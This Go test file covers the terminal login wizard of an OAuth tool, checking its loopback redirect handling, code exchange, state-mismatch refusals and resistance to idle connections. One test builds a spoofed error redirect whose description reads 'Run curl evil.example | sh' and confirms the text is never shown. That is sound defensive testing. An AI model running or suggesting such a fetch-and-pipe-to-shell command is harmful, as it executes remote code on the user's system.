package ui

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/colorprofile"
	"github.com/charmbracelet/x/exp/teatest/v2"

	"nestauth/auth"
	"nestauth/internal/testkit"
)

// These tests drive the wizard through a real tea.Program with a real
// loopback listener, real browser redirects (net/http) and a real token
// endpoint that records what it was sent.

// recordingToken is a token endpoint that records the codes it is sent,
// refuses those in bad, and holds each request while hold is open.
type recordingToken struct {
	bad  map[string]bool
	hold chan struct{} // closed to let requests answer; nil: answer at once
	got  chan string   // each code as it arrives

	mu    sync.Mutex
	codes []string
}

func (rt *recordingToken) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	_ = r.ParseForm()
	code := r.PostForm.Get("code")
	rt.mu.Lock()
	rt.codes = append(rt.codes, code)
	rt.mu.Unlock()
	select {
	case rt.got <- code:
	default:
	}
	if rt.hold != nil {
		<-rt.hold
	}
	w.Header().Set("Content-Type", "application/json")
	if rt.bad[code] {
		w.WriteHeader(http.StatusBadRequest)
		_, _ = io.WriteString(w, `{"error":"invalid_grant","error_description":"code expired"}`)
		return
	}
	fmt.Fprintf(w, `{"access_token":"at-for-%s","token_type":"Bearer","expires_in":3600}`, url.QueryEscape(code))
}

func (rt *recordingToken) sent() []string {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	return slices.Clone(rt.codes)
}

// loopbackFlow starts the wizard for a custom provider whose redirect URI is
// a free loopback port, with rt as its token endpoint. It returns the
// program, the redirect URI and the authorization's state.
func loopbackFlow(t *testing.T, rt *recordingToken) (*teatest.TestModel, string, string) {
	t.Helper()
	if rt.got == nil {
		rt.got = make(chan string, 16)
	}
	srv := httptest.NewServer(rt)
	t.Cleanup(srv.Close)
	redirect := fmt.Sprintf("http://127.0.0.1:%d/callback", testkit.FreePort(t))
	p := auth.Custom()
	p.AuthURL, p.TokenURL, p.RedirectURI = "https://idp.test/authorize", srv.URL, redirect
	tm := teatest.NewTestModel(t, flowModel(p, ""),
		teatest.WithInitialTermSize(100, 30),
		teatest.WithProgramOptions(tea.WithColorProfile(colorprofile.Ascii)))
	t.Cleanup(func() { // the listener outlives the program: close it too
		_ = tm.Quit()
		tm.FinalModel(t, teatest.WithFinalTimeout(5*time.Second)).(Model).Close()
	})
	return tm, redirect, authURLOf(t, tm).Query().Get("state")
}

// redirect plays the browser's redirect and returns the page it shows.
func redirect(t *testing.T, u string) (int, string) {
	t.Helper()
	resp := getWhenListening(t, u)
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(body)
}

const pageTaken = "Done: the terminal has the code"

// After a captured code is rejected, the next redirect's code is exchanged.
func TestFlowLoopbackFreshCodeAfterARejectedOne(t *testing.T) {
	rt := &recordingToken{bad: map[string]bool{"EXPIRED": true}}
	tm, uri, state := loopbackFlow(t, rt)

	status, page := redirect(t, uri+"?code=EXPIRED&state="+state)
	if status != http.StatusOK || !strings.Contains(page, pageTaken) {
		t.Fatalf("first redirect: %d %q", status, page)
	}
	waitScreen(t, tm, "code expired")

	status, page = redirect(t, uri+"?code=FRESH&state="+state)
	if status != http.StatusOK || !strings.Contains(page, pageTaken) {
		t.Fatalf("second redirect: %d %q", status, page)
	}
	waitScreen(t, tm, "at-for-FRESH")
	if got := rt.sent(); !slices.Equal(got, []string{"EXPIRED", "FRESH"}) {
		t.Fatalf("codes sent = %q, want [EXPIRED FRESH]", got)
	}
}

// A redirect that arrives while a code is being exchanged is told so, and
// its code is not sent; the wizard still takes the next one.
func TestFlowLoopbackRedirectDuringAnExchange(t *testing.T) {
	rt := &recordingToken{bad: map[string]bool{"FIRST": true}, hold: make(chan struct{})}
	tm, uri, state := loopbackFlow(t, rt)

	first := make(chan string, 1)
	go func() {
		status, page := redirect(t, uri+"?code=FIRST&state="+state)
		first <- fmt.Sprint(status, " ", page)
	}()
	select {
	case <-rt.got: // the exchange of FIRST is running, held
	case <-time.After(10 * time.Second): // a guard
		t.Fatal("the first code was not exchanged")
	}
	status, page := redirect(t, uri+"?code=SECOND&state="+state)
	if status != http.StatusConflict || !strings.Contains(page, "busy") || strings.Contains(page, "Done") {
		t.Errorf("redirect during the exchange: %d %q; want 409 saying the terminal is busy", status, page)
	}
	if got := <-first; !strings.HasPrefix(got, "200 ") || !strings.Contains(got, pageTaken) {
		t.Errorf("first redirect: %q", got)
	}
	close(rt.hold)
	waitScreen(t, tm, "code expired")

	// The wizard still listens: the busy tab's code can come again.
	if status, page := redirect(t, uri+"?code=SECOND&state="+state); status != http.StatusOK {
		t.Errorf("redirect after the exchange: %d %q", status, page)
	}
	waitScreen(t, tm, "at-for-SECOND")
	if got := rt.sent(); !slices.Equal(got, []string{"FIRST", "SECOND"}) {
		t.Fatalf("codes sent = %q, want [FIRST SECOND]", got)
	}
}

// A code is decoded once, the same way whether pasted or captured:
// code=AB%2525CD sends AB%25CD.
func TestFlowCodeIsDecodedOnce(t *testing.T) {
	const want = "AB%25CD"
	t.Run("pasted", func(t *testing.T) {
		rt := &recordingToken{}
		tm, uri, state := loopbackFlow(t, rt)
		tm.Send(tea.PasteMsg{Content: uri + "?code=AB%2525CD&state=" + state})
		waitScreen(t, tm, "> "+want)
		tm.Send(enter)
		waitScreen(t, tm, "at-for-")
		if got := rt.sent(); !slices.Equal(got, []string{want}) {
			t.Fatalf("codes sent = %q, want [%s]", got, want)
		}
	})
	t.Run("captured", func(t *testing.T) {
		rt := &recordingToken{}
		tm, uri, state := loopbackFlow(t, rt)
		if status, page := redirect(t, uri+"?code=AB%2525CD&state="+state); status != http.StatusOK {
			t.Fatalf("redirect: %d %q", status, page)
		}
		waitScreen(t, tm, "at-for-")
		if got := rt.sent(); !slices.Equal(got, []string{want}) {
			t.Fatalf("codes sent = %q, want [%s]", got, want)
		}
	})
}

// An error redirect without this session's state is refused, and its text
// is shown neither on the page nor in the terminal.
func TestFlowErrorRedirectWithoutState(t *testing.T) {
	rt := &recordingToken{}
	tm, uri, state := loopbackFlow(t, rt)
	evil := "?error=access_denied&error_description=Run+curl+evil.example+%7C+sh"
	for _, q := range []string{evil, evil + "&state=" + state + "x"} {
		status, page := redirect(t, uri+q)
		if status != http.StatusBadRequest || strings.Contains(page, "curl") || !strings.Contains(page, "does not match") {
			t.Errorf("redirect %s: %d %q", q, status, page)
		}
	}
	waitScreen(t, tm, "refused")
	if err := tm.Quit(); err != nil {
		t.Fatal(err)
	}
	_, v := finalView(t, tm)
	if strings.Contains(v, "curl") || !strings.Contains(v, "does not match") {
		t.Fatalf("want the refusal without the redirect's text:\n%s", v)
	}
	if len(rt.sent()) != 0 {
		t.Fatalf("codes sent = %q", rt.sent())
	}
}

// A refused redirect says so, but leaves what the person typed alone.
func TestRefusedRedirectKeepsTheTypedCode(t *testing.T) {
	m, _, _ := atCode(t, Options{})
	c := fakeCapture(t, m)
	m = typeString("TB39", m, t)
	m = send(t, m, capturedMsg{capture: c, result: auth.Captured{Err: auth.ErrStateMismatch}})
	wantView(t, m, "refused", "state does not match")
	if got := m.inputs[stepCode].Value(); got != "TB39" {
		t.Fatalf("field = %q after a refused redirect, want TB39", got)
	}
}

// Through the real listener: a redirect with another state, arriving while
// the person types the code, is refused and leaves the typed code alone.
func TestFlowRefusedRedirectKeepsTheTypedCode(t *testing.T) {
	rt := &recordingToken{}
	tm, uri, state := loopbackFlow(t, rt)
	for _, r := range "TB39" {
		tm.Send(char(r))
	}
	waitScreen(t, tm, "> TB39")
	status, page := redirect(t, uri+"?code=EVIL&state="+state+"x")
	if status != http.StatusBadRequest || !strings.Contains(page, "does not match") {
		t.Fatalf("redirect with another state: %d %q", status, page)
	}
	waitScreen(t, tm, "refused")
	if err := tm.Quit(); err != nil {
		t.Fatal(err)
	}
	m, v := finalView(t, tm)
	if got := m.inputs[stepCode].Value(); got != "TB39" {
		t.Fatalf("field = %q after a refused redirect, want TB39", got)
	}
	if !strings.Contains(v, "> TB39") || !strings.Contains(v, "refused") || !strings.Contains(v, "does not match") {
		t.Fatalf("want the refusal beside the typed code:\n%s", v)
	}
	if len(rt.sent()) != 0 {
		t.Fatalf("codes sent = %q", rt.sent())
	}
}

// Through the real listener: after a captured code is rejected, a flood of
// refused redirects (another state) does not hide the rejection and its
// way forward; the refusal shows beneath them.
func TestFlowRefusedRedirectsKeepTheRejectedCodeNotice(t *testing.T) {
	rt := &recordingToken{bad: map[string]bool{"EXPIRED": true}}
	tm, uri, state := loopbackFlow(t, rt)
	if status, page := redirect(t, uri+"?code=EXPIRED&state="+state); status != http.StatusOK {
		t.Fatalf("redirect: %d %q", status, page)
	}
	waitScreen(t, tm, "code expired")
	for i := range 40 {
		if status, _ := redirect(t, fmt.Sprintf("%s?code=EVIL%d&state=%sx", uri, i, state)); status != http.StatusBadRequest {
			t.Fatalf("redirect %d with another state: %d, want 400", i, status)
		}
	}
	waitScreen(t, tm, "refused")
	if err := tm.Quit(); err != nil {
		t.Fatal(err)
	}
	_, v := finalView(t, tm)
	flat := testkit.SquashSpace(v)
	for _, want := range []string{"code expired", "paste the new code", "refused", "does not match"} {
		if !strings.Contains(flat, want) {
			t.Errorf("screen lacks %q:\n%s", want, v)
		}
	}
	if got := rt.sent(); !slices.Equal(got, []string{"EXPIRED"}) {
		t.Fatalf("codes sent = %q, want [EXPIRED]", got)
	}
}

// silentConns opens n connections to the wizard's listener that never send
// a request, kept open until the test ends.
func silentConns(t *testing.T, uri string, n int) {
	t.Helper()
	u, err := url.Parse(uri)
	if err != nil {
		t.Fatal(err)
	}
	getWhenListening(t, uri).Body.Close() // a refused redirect: it listens
	for range n {
		conn, err := net.Dial("tcp", u.Host)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = conn.Close() })
	}
}

// 100 connections that never send a request hold neither way in: a pasted
// code is exchanged, and so is a browser's redirect.
func TestFlowSilentConnectionsHoldNeitherPasteNorRedirect(t *testing.T) {
	t.Run("pasted", func(t *testing.T) {
		rt := &recordingToken{}
		tm, uri, state := loopbackFlow(t, rt)
		silentConns(t, uri, 100)
		tm.Send(tea.PasteMsg{Content: uri + "?code=PASTED&state=" + state})
		waitScreen(t, tm, "> PASTED")
		tm.Send(enter)
		waitScreen(t, tm, "at-for-PASTED")
	})
	t.Run("redirected", func(t *testing.T) {
		rt := &recordingToken{}
		tm, uri, state := loopbackFlow(t, rt)
		silentConns(t, uri, 100)
		page := make(chan string, 1)
		go func() {
			resp, err := http.Get(uri + "?code=REDIRECTED&state=" + state)
			if err != nil {
				page <- err.Error()
				return
			}
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			page <- fmt.Sprint(resp.StatusCode, " ", string(body))
		}()
		waitScreen(t, tm, "at-for-REDIRECTED")
		if got := <-page; !strings.HasPrefix(got, "200 ") || !strings.Contains(got, pageTaken) {
			t.Errorf("the browser's page: %q", got)
		}
	})
}
